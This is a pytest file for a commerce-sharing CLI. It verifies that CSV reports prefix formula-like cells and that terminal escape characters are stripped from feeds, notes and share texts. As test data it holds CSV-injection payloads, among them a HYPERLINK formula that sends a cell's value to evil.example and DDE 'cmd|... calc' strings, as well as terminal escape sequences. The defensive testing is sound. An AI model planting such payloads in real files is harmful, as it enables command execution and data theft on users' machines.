"""Defects 2 and 6 of the hostile-input issue: CSV exports never run formulas in a spreadsheet,
and control characters (terminal escapes) never reach the store, the terminal or share texts."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from sharekit.core.sanitize import clean_text, csv_cell, csv_text

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
ESCAPES = "\x1b[31mRED\x1b[0m \x1b]0;pwned\x07 bell\x07 c1\x9b31m del\x7f"


def _setup(cli, home: Path) -> None:
    assert cli("init").exit_code == 0
    with (home / "config.toml").open("a", encoding="utf-8") as fh:
        fh.write('\n[sources.demo]\nkind = "feed"\npath = "feed.csv"\n')


def _import(cli, tmp_path: Path, rows: list[list[str]]) -> None:
    path = tmp_path / "orders.csv"
    header = ["order_id", "product", "channel", "status", "amount", "commission", "currency", "ordered_at",
              "updated_at"]
    path.write_text(csv_text(header, []) + "".join(
        ",".join('"' + c.replace('"', '""') + '"' for c in row) + "\n" for row in rows), "utf-8")
    result = cli(["orders", "import", str(path), "--format", "csv"])
    assert result.exit_code in (0, 1), result.output
    assert "Traceback" not in result.output


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("cell", FORMULAS)
def test_csv_cell_prefixes_every_formula_start(cell):
    assert csv_cell(cell) == "'" + cell


def test_csv_cell_leaves_numbers_and_text_alone():
    for value in ("-3.50", "199.00", "+2", "保温杯", "a=b", 12, None):
        assert csv_cell(value) == value


def test_report_csv_defuses_formula_channels_and_products(cli, home, tmp_path):
    _setup(cli, home)
    evil_source = '=HYPERLINK("evil.example/x","x")'   # no ':' (SOURCE:ID)
    with (home / "config.toml").open("a", encoding="utf-8") as fh:
        fh.write(f'\n[sources.{json.dumps(evil_source)}]\nkind = "feed"\npath = "feed.csv"\n')
    for name in ("-cmd", "@sum"[1:], "-2-3"):
        assert cli(["channel", "add", "--", name]).exit_code == 0
    _import(cli, tmp_path, [[f"O{i}", f"{evil_source}:{i}", channel, "settled", "10.00", "1.00", "CNY",
                             "2026-10-01T10:00:00", ""] for i, channel in enumerate(("-cmd", "sum", "-2-3"))])
    by_channel = cli(["report", "--by", "channel", "--format", "csv"])
    assert by_channel.exit_code == 0, by_channel.output
    keys = [row[0] for row in _cells(by_channel.stdout)[1:]]
    assert {"'-cmd", "'-2-3", "sum"} <= set(keys)
    by_product = cli(["report", "--by", "product", "--format", "csv"])
    assert by_product.exit_code == 0, by_product.output
    keys = [row[0] for row in _cells(by_product.stdout)[1:]]
    assert "'" + evil_source + ":0" in keys
    for text in (by_channel.stdout, by_product.stdout):
        assert all(not row[0].startswith(("=", "+", "-", "@", "\t", "\r")) for row in _cells(text))


def test_payouts_csv_defuses_a_formula_note(cli, home, tmp_path):
    _setup(cli, home)
    note = '=HYPERLINK("http://evil.example","pay me")'
    added = cli(["channel", "add", "lili", "--kind", "friend", "--share", "30%", "--note", note])
    assert added.exit_code == 0, added.output
    _import(cli, tmp_path, [["P1", "demo:1", "lili", "settled", "100.00", "10.00", "CNY", "2026-10-03T10:00:00",
                             "2026-10-05T10:00:00"]])
    result = cli(["report", "payouts", "--month", "2026-10", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = _cells(result.stdout)
    column = rows[0].index("note")
    assert rows[1][column] == "'" + note


def test_clean_text_removes_c0_c1_esc_bel_and_keeps_words():
    assert clean_text(ESCAPES) == "[31mRED[0m ]0;pwned bell c131m del"
    assert clean_text("保温杯\t500ml\r\nx") == "保温杯 500ml x"
    assert clean_text("line1\r\nline2\x1b", multiline=True) == "line1\nline2"


def test_escape_sequences_in_a_feed_never_reach_store_terminal_or_share_text(cli, home):
    _setup(cli, home)
    (home / "feed.csv").write_text(
        "id,title,brand,description,price,currency\n"
        f'1,"保温杯 {ESCAPES}","Brand\x1b[5m","desc\x1b]8;;http://x\x07 line",19.90,CNY\n', "utf-8")
    pulled = cli(["pull", "demo", "--no-images"])
    assert pulled.exit_code == 0, pulled.output
    listing = cli(["products", "list", "--json"])
    item = json.loads(listing.stdout)[0]
    for field in ("title",):
        assert "\x1b" not in item[field] and "\x07" not in item[field] and "\x9b" not in item[field]
    shown = cli(["products", "show", "demo:1", "--json"])
    detail = json.loads(shown.stdout)
    assert not any(ch in json.dumps(detail, ensure_ascii=False) for ch in ("\x1b", "\x07", "\x9b"))
    table = cli(["products", "list"])
    assert "\x1b" not in table.stdout and "\x07" not in table.stdout


def test_share_text_values_are_cleaned(home):
    from sharekit.poster.batch import share_text
    from sharekit.poster.render import ProductRecord

    class Brand:
        name, slogan = "Shop\x1b[31m", "好物\x07"

    product = ProductRecord(id="demo:1", title="杯\x1b]0;x\x07子")
    text = share_text(product, "https://s.example/abc", "淘口令\x1b[2J", Brand(), "{brand} {slogan}\n{title}\n"
                      "{share_text}\n{link}")
    assert "\x1b" not in text and "\x07" not in text
    assert "杯]0;x子" in text


def test_channel_notes_and_order_texts_are_stored_clean(cli, home, tmp_path):
    _setup(cli, home)
    assert cli(["channel", "add", "g1", "--note", "group\x1b[31m red"]).exit_code == 0
    _import(cli, tmp_path, [["E1", "demo:1", "g1\x1b[2J", "paid\x07", "10.00", "1.00", "CNY", "2026-10-01T10:00:00",
                             ""]])
    channels = json.loads(cli(["channel", "list", "--json"]).stdout)
    assert all("\x1b" not in (c.get("note") or "") for c in channels)
    orders = cli(["orders", "list", "--json"]).stdout
    assert "\\u001b" not in orders and "\\u0007" not in orders
    assert '"g1[2J"' in orders
